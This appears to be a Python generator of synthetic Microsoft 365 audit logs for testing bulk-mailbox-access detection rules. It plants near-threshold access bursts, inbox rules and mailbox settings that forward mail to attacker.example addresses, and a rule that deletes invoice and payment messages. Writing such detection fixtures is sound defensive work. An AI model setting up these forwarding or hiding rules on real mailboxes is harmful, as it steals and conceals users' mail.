#!/usr/bin/env python3
# tests/property/gen_audit.py -- deterministic Microsoft 365 audit corpus for the order property
# test: MailItemsAccessed noise over several days, bulk-access windows planted at and just below
# the thresholds of rules/m365/bulk_mailbox_access.yml, inbox-rule and mailbox forwarding, and
# exact duplicate records (same Id) as the Management Activity API repeats them.
# SPDX-License-Identifier: MIT
"""Usage: gen_audit.py --out DIR [--seed N] [--days N] [--users N]

Writes DIR/audit.jsonl (Management Activity API records, one per line, sorted by CreationTime
then Id, duplicates next to their original) and DIR/audit.expected.json: the bulk-access alerts
the planted windows must raise, as {"bulk": {account: level or null for any}}. Every other planted window sits
just below a threshold and must raise nothing."""

import argparse
import calendar
import json
import os
import random
import time
import zlib

BASE = calendar.timegm((2025, 3, 3, 0, 0, 0))  # a Monday, 00:00 UTC
BIN = 1800
DOMAIN = "contoso.example"
ORG = "11111111-2222-3333-4444-555555555555"
CLIENTS = [
    "Client=OWA;Action=ViaProxy",
    "Client=MSExchangeRPC",
    "Client=Microsoft.Outlook.Desktop;Version=16.0.17328.20162",
    "Client=REST;Client=RESTSystem;;",
]
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36"
FOLDERS = ["\\Inbox", "\\Sent Items", "\\Inbox\\Projects", "\\Archive"]


class Gen:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.serial = 0
        self.records = []  # (time, id, line)

    def guid(self):
        self.serial += 1
        return "%08x-%04x-4%03x-9%03x-%012x" % (self.rng.getrandbits(32), self.serial & 0xffff,
                                               self.rng.getrandbits(12), self.rng.getrandbits(12),
                                               self.serial)

    def add(self, t, rec, copies=1):
        rec = dict(rec)
        rec_id = self.guid()
        head = {"CreationTime": time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)), "Id": rec_id}
        head.update(rec)
        head.setdefault("OrganizationId", ORG)
        head.setdefault("Workload", "Exchange")
        line = json.dumps(head, separators=(",", ":"))
        for _ in range(copies):
            self.records.append((t, rec_id, line))

    def mia(self, t, user, ip, *, client=None, ua=None, status="Succeeded", op="MailItemsAccessed",
            ip_field="ClientIP", copies=1):
        rng = self.rng
        rec = {"Operation": op, "RecordType": 50 if op == "MailItemsAccessed" else 2,
               "UserKey": "1003%012X" % zlib.crc32(user.encode()), "UserType": 0,
               "Version": 1, "UserId": user}
        if status is not None:
            rec["ResultStatus"] = status
        rec[ip_field] = ip
        if ip_field == "ClientIP" and rng.random() < 0.5:
            rec["ClientIPAddress"] = ip
        rec["ClientInfoString"] = client or rng.choice(CLIENTS)
        if ua is not None:
            rec["UserAgent"] = ua
        rec["ExternalAccess"] = False
        rec["LogonType"] = 0
        rec["MailboxOwnerUPN"] = user
        rec["OperationProperties"] = [{"Name": "MailAccessType", "Value": rng.choice(["Bind", "Sync"])},
                                      {"Name": "IsThrottled", "Value": "False"}]
        rec["Folders"] = [{"Path": rng.choice(FOLDERS), "FolderItems": [
            {"InternetMessageId": "<%s@%s>" % (self.guid()[:18], DOMAIN)}]}]
        rec["OperationCount"] = 1
        self.add(t, rec, copies)

    def admin(self, t, user, op, params, ip="203.0.113.45:50433", copies=1):
        rec = {"Operation": op, "RecordType": 1, "ResultStatus": "True", "UserType": 0,
               "Version": 1, "ClientIP": ip, "ObjectId": user.split("@")[0], "UserId": user,
               "Parameters": [{"Name": n, "Value": v} for n, v in params]}
        self.add(t, rec, copies)

    def client_rule(self, t, user, actions, copies=1):
        rec = {"Operation": "UpdateInboxRules", "RecordType": 2, "ResultStatus": "Succeeded",
               "UserType": 0, "Version": 1, "ClientIP": "198.51.100.23", "UserId": user,
               "ClientInfoString": "Client=MSExchangeRPC", "MailboxOwnerUPN": user,
               "OperationProperties": [
                   {"Name": "RuleOperation", "Value": "AddMailboxRule"},
                   {"Name": "RuleName", "Value": "sync"},
                   {"Name": "RuleActions", "Value": json.dumps(actions, separators=(",", ":"))}]}
        self.add(t, rec, copies)


def user_ips(i):
    v6 = "2001:db8:%x:%x" % (0x100 + i, 0x20 + i)
    return ["198.51.100.%d" % (10 + i), "203.0.113.%d:%d" % (10 + i, 40000 + i), v6]


def v6_host(rng, v6, bracket):
    host = "%s:%x:%x:%x:%x" % (v6, rng.randint(1, 0xffff), rng.randint(0, 0xffff),
                               rng.randint(0, 0xffff), rng.randint(1, 0xffff))
    return "[%s]:%d" % (host, rng.randint(1024, 65535)) if bracket else host


def noise(g, days, users):
    """Working-day mail clients: at most 3 client networks and far below 200 reads per bin."""
    rng = g.rng
    for day in range(days):
        for i in range(users):
            user = "user%02d@%s" % (i, DOMAIN)
            ips = user_ips(i)
            for _ in range(rng.randint(2, 5)):  # sessions
                start = BASE + day * 86400 + rng.randint(7 * 3600, 18 * 3600)
                for _ in range(rng.randint(3, 12)):
                    k = rng.randrange(3)
                    ip = ips[k] if k < 2 else v6_host(rng, ips[2], rng.random() < 0.5)
                    field = "ClientIPAddress" if rng.random() < 0.2 else "ClientIP"
                    g.mia(start + rng.randint(0, 2400), user, ip, ip_field=field,
                          copies=2 if rng.random() < 0.01 else 1)
                if rng.random() < 0.3:
                    g.admin(start + 30, user, "Set-InboxRule",
                            [("Identity", user + "\\Newsletters"), ("MoveToFolder", "Newsletters"),
                             ("MarkAsRead", "False")], ip=ips[0])


def burst(g, user, bin_start, n, ips, *, ties=20, client=None, ua=None, status="Succeeded",
          op="MailItemsAccessed"):
    """n reads of user inside one bin, on only `ties` distinct seconds (equal times)."""
    rng = g.rng
    secs = sorted(rng.sample(range(BIN), ties))
    for k in range(n):
        g.mia(bin_start + secs[k % ties], user, ips[k % len(ips)], client=client, ua=ua,
              status=status, op=op)


def plant_bulk(g, days):
    """Planted windows, each for its own account in its own bin; returns {account: level}."""
    rng = g.rng
    want = {}
    night = [BASE + d * 86400 + 2 * 3600 + (k % 8) * BIN for d in range(days) for k in range(8)]
    rng.shuffle(night)
    slots = iter(night)

    def acct(name):
        return "%s@%s" % (name, DOMAIN)

    one = ["192.0.2.10"]
    # count: > 200 alerts (medium), 200 does not
    burst(g, acct("count201"), next(slots), 201, one)
    want[acct("count201")] = "medium"
    burst(g, acct("count200"), next(slots), 200, one)
    # count with duplicates: 201 distinct + 25 repeats alerts; 200 distinct + 25 repeats does not
    for name, n in (("dup201", 201), ("dup200", 200)):
        b = next(slots)
        before = len(g.records)
        burst(g, acct(name), b, n, one)
        for rec in rng.sample(g.records[before:], 25):
            g.records.append(rec)
    want[acct("dup201")] = "medium"
    # count without ResultStatus, MessageBind / FolderBind mixed: 120 + 81 alerts, 120 + 80 not
    for name, n in (("bind201", 81), ("bind200", 80)):
        b = next(slots)
        burst(g, acct(name), b, 120, one, op="MessageBind")
        burst(g, acct(name), b, n, one, status=None, op="FolderBind")
    want[acct("bind201")] = "medium"
    # distinct client networks: > 3 alerts; IPv6 hosts of one /64 count once
    burst(g, acct("ip4"), next(slots), 24,
          ["192.0.2.21", "198.51.100.201:443", "[2001:db8:4:1::5]:8443", "2001:db8:4:2::9"])
    want[acct("ip4")] = "medium"
    b = next(slots)
    v6 = "2001:db8:3:1"
    ips = ["192.0.2.31", "192.0.2.31:50000", "203.0.113.31"]
    ips += [v6_host(rng, v6, k % 2 == 0) for k in range(30)]
    burst(g, acct("ip3"), b, 60, ips, ties=30)
    # automation user agents raise the level: 201 with python-requests is high, 200 is nothing
    burst(g, acct("py201"), next(slots), 201, one, ua="python-requests/2.31.0")
    want[acct("py201")] = "high"
    burst(g, acct("py200"), next(slots), 200, one, ua="python-requests/2.31.0")
    # more distinct clients than the alert keeps values of (3): the automation one must count
    clients = ["Client=OWA;Action=ViaProxy", "Client=MSExchangeRPC", "Client=Outlook-iOS/2.0",
               "Client=REST;Client=RESTSystem;;", "Client=REST;curl/8.5.0"]
    burst(g, acct("mixedua"), next(slots), 205, one, client=None)
    b = next(slots)
    for k in range(201):
        g.mia(b + (k * 7) % BIN, acct("manyclients"), one[0], client=clients[k % 5])
    want[acct("manyclients")] = None  # level depends on which 3 values are kept
    want[acct("mixedua")] = "medium"
    # 150 + 150 across a bin boundary: nothing
    b = next(slots)
    for k in range(300):
        t = b + BIN - 1 - (k % 150) * 4 if k < 150 else b + BIN + (k % 150) * 4
        g.mia(t, acct("straddle"), "192.0.2.41")
    # 250 failed reads: nothing
    burst(g, acct("failed"), next(slots), 250, one, status="Failed", ua="python-requests/2.31.0")
    # a noisy user's own window at night, at the threshold (201) and next to the day's noise
    burst(g, "user03@%s" % DOMAIN, next(slots), 201, ["198.51.100.13"])
    want["user03@%s" % DOMAIN] = "medium"
    return want


def plant_rules(g, days, users):
    """Forwarding and hiding inbox rules, some repeated (same Id) by the API."""
    rng = g.rng
    for k in range(3 * days):
        user = "user%02d@%s" % (rng.randrange(users), DOMAIN)
        t = BASE + (k % days) * 86400 + rng.randint(8 * 3600, 17 * 3600)
        copies = 1 + (k % 3 == 0)
        g.admin(t, user, "New-InboxRule",
                [("Name", "."), ("ForwardTo", "smtp:drop%d@attacker.example" % k),
                 ("StopProcessingRules", "True")], copies=copies)
        g.admin(t + 5, user, "Set-InboxRule",
                [("Identity", user + "\\r%d" % k), ("RedirectTo", "colleague%d@%s" % (k, DOMAIN))])
        g.admin(t + 9, user, "Set-Mailbox",
                [("Identity", user), ("ForwardingSmtpAddress", "smtp:fw%d@attacker.example" % k),
                 ("DeliverToMailboxAndForward", "False")], copies=copies)
        g.admin(t + 9, user, "Set-Mailbox", [("Identity", user), ("ForwardingSmtpAddress", "")])
        g.admin(t + 11, user, "New-InboxRule",
                [("Name", "x"), ("SubjectContainsWords", "invoice;payment"), ("DeleteMessage", "True"),
                 ("MoveToFolder", "RSS Feeds")], copies=copies)
        g.client_rule(t + 13, user, [{"ActionType": "Forward",
                                       "Recipients": ["out%d@attacker.example" % k]}],
                      copies=copies)
        g.client_rule(t + 13, user, [{"ActionType": "Move", "DestinationFolderId": "AAMk%d" % k}])


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=5114)
    ap.add_argument("--days", type=int, default=4)
    ap.add_argument("--users", type=int, default=24)
    args = ap.parse_args()
    g = Gen(args.seed)
    noise(g, args.days, args.users)
    want = plant_bulk(g, args.days)
    plant_rules(g, args.days, args.users)
    g.records.sort(key=lambda r: (r[0], r[1]))
    os.makedirs(args.out, exist_ok=True)
    with open(os.path.join(args.out, "audit.jsonl"), "w", encoding="utf-8", newline="\n") as fh:
        for _, _, line in g.records:
            fh.write(line + "\n")
    with open(os.path.join(args.out, "audit.expected.json"), "w", encoding="utf-8") as fh:
        json.dump({"seed": args.seed, "records": len(g.records), "bulk": want}, fh, sort_keys=True)
        fh.write("\n")


if __name__ == "__main__":
    main()
